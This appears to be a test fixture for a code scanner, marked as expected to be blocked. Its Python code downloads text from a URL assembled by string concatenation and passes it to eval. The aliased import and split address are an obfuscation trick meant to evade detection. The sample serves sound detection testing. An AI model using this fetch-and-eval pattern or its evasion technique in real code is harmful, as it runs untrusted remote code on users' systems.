# expect: BLOCKED category: remote_exec variant-of: risky/remote_exec/urlopen_eval.py technique: alias+concat
from urllib.request import urlopen as _f0
result = eval(_f0('http://' + '203.0.1' + '13.4/ex' + 'pr').read().decode())
print(result)
